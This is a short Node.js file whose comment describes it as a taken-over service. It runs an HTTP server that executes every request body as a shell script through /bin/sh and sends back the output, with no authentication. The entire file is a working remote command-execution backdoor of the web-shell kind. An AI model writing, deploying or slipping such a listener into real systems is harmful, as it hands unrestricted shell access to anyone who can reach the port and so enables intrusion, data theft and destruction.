// A service that was taken over: runs each script that it is sent, and answers with what it says.
import { execFile } from 'node:child_process'
import { createServer } from 'node:http'
import { text } from 'node:stream/consumers'

createServer(async (request, response) => {
  const script = await text(request)
  execFile('/bin/sh', ['-c', script], { encoding: 'utf8' }, (_error, stdout, stderr) =>
    response.end(stdout + stderr),
  )
}).listen(Number(process.env.PORT), process.env.HOST)
